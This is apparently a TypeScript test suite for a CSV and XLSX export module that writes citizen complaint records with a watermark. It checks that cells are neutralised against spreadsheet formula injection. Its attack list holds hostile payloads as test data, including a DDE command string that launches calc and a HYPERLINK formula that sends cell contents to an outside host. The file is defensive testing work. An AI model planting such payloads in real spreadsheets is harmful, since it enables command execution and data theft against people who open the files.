import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { buffer } from 'node:stream/consumers';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import readXlsx from 'read-excel-file/node';
import { asItWas, type Cell, type Mark, type Sheet, withoutFormulas, writeCsv, writeXlsx } from './index.ts';

const mark: Mark = {
  id: '019cac0f-2680-7e27-9f69-000000000001',
  line: '导出 019cac0f · 钱主任（云阳县综治中心 & 督办）',
  author: '钱主任',
  madeAt: '2026-03-02T01:00:00.000Z',
};
const sheetOf = (rows: Sheet['rows']): Sheet => ({
  title: '诉求',
  columns: [
    { title: '编号', width: 24 },
    { title: '内容', width: 60 },
  ],
  rows,
  mark,
});
const naughty = new URL('../../../shared/data/security/blns/blns.json', import.meta.url);
const strings: string[] = existsSync(naughty) ? JSON.parse(readFileSync(naughty, 'utf8')) : [];
const attacks = [
  ...['=1+1', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1+1', '＋1', '－1', '＠SUM(1)', "'=1", "''=1"],
  ...[
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.cn?"&A1)',
    'a;=1+1',
    'a,=1',
    'a\t@x',
    'a|=1',
    'a\r\n=1',
    '\u200b=1',
    '_x0001_',
    '%0a=1',
  ],
  ...strings,
];
const formula = /(^|[;,\t|\r\n])[\s\u200b\ufeff]*[=+\-@＝＋－＠]/;

async function readCsv(rows: Sheet['rows']): Promise<string[][]> {
  const text = (await buffer(writeCsv(sheetOf(rows)))).toString('utf8');
  return parse(text, { bom: true, relax_column_count: true });
}

async function readBack(rows: Sheet['rows']): Promise<unknown[][]> {
  const [sheet] = await readXlsx(await buffer(writeXlsx(sheetOf(rows))));
  return (sheet?.data ?? []) as unknown[][];
}

test('no cell of a CSV begins like a formula, whichever sign separates cells for its reader, and all can be read back', async () => {
  const rows = await readCsv(attacks.map((text) => ['1', text]));

  const cells = rows.slice(2, -1).map(([, cell = '']) => cell);
  assert.deepEqual(
    cells.filter((cell) => formula.test(cell)),
    [],
  );
  assert.deepEqual(cells.map(asItWas), attacks);
});

test('whatever somebody writes can be read back, and means nothing to a spreadsheet', () => {
  const sign = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '＝',
    "'",
    ' ',
    '\t',
    '\r',
    '\n',
    ';',
    ',',
    '|',
    'a',
    '灯',
    '\u200b',
  );
  fc.assert(
    fc.property(fc.oneof(fc.string({ unit: sign }), fc.string({ unit: 'binary' })), (text) => {
      assert.equal(asItWas(withoutFormulas(text)), text);
      assert.doesNotMatch(withoutFormulas(text), formula);
    }),
    { numRuns: 3_000 },
  );
});

test('every cell of an XLSX is text or a number, and another program reads the same text', async () => {
  const written = attacks.filter((text) => text.isWellFormed() && text.trim() !== '');
  const file = await buffer(writeXlsx(sheetOf(written.map((text) => [text, 7]))));
  const xml = strFromU8(unzipSync(file)['xl/worksheets/sheet1.xml'] as Uint8Array);

  assert.doesNotMatch(xml, /<f[ >]/);
  assert.deepEqual([...new Set([...xml.matchAll(/ t="(\w+)"/g)].map(([, type]) => type))], ['inlineStr']);
  const rows = await readBack(written.map((text) => [text, 7]));
  assert.equal(rows.length, written.length + 3);
  assert.deepEqual(rows[2]?.[1], 7);
  assert.ok(
    rows.some(([cell]) => cell === '=1+1') && xml.includes('s="1" t="inlineStr"><is><t xml:space="preserve">=1+1'),
  );
});

test('what XML cannot hold does not break the file', async () => {
  const odd = [
    'a\u0000b',
    'half \ud83d pair',
    '<&">',
    ']]>',
    '\u0008',
    '\ufffe',
    '_x0041_',
    '\u202e',
    'x'.repeat(40_000),
  ];

  const rows = await readBack(odd.map((text) => [text]));

  assert.equal(rows.length, odd.length + 3);
  assert.deepEqual(rows[4], ['<&">', null]);
});

test('the mark stands in the first row and the last, on every printed page and in the properties of the file', async () => {
  const rows: Cell[][] = [['1', '路灯']];
  const csv = await readCsv(rows);
  const parts = unzipSync(await buffer(writeXlsx(sheetOf(rows))));
  const text = (name: string) => strFromU8(parts[name] as Uint8Array);

  assert.deepEqual([csv[0], csv.at(-1)], [[mark.line], [mark.line]]);
  const back = await readBack(rows);
  assert.deepEqual([back[0]?.[0], back.at(-1)?.[0]], [mark.line, mark.line]);
  assert.match(text('xl/worksheets/sheet1.xml'), /<oddHeader>&amp;C导出 019cac0f .*&amp;&amp;/);
  assert.match(text('xl/worksheets/sheet1.xml'), /<oddFooter>&amp;L019cac0f-2680-7e27-9f69-000000000001/);
  assert.match(text('docProps/core.xml'), /<dc:creator>钱主任<.*<cp:keywords>019cac0f-2680-7e27-9f69-000000000001</);
});

test('a hundred thousand rows are written without being held', { timeout: 300_000 }, async () => {
  let pulled = 0;
  async function* rows(): AsyncGenerator<Cell[]> {
    for (; pulled < 100_000; pulled += 1) yield [`${pulled}`, '望江路的路灯不亮，已经三天了，老人晚上出门看不见。'];
  }
  for (const write of [writeCsv, writeXlsx]) {
    pulled = 0;
    let seen = 0;
    let most = { rows: 0, bytes: 0 };
    for await (const piece of write(sheetOf(rows()))) {
      most = { rows: Math.max(most.rows, pulled - seen), bytes: Math.max(most.bytes, piece.length) };
      seen = pulled;
    }

    assert.equal(pulled, 100_000);
    assert.ok(most.rows <= 501 && most.bytes < 300_000, JSON.stringify(most));
  }
});
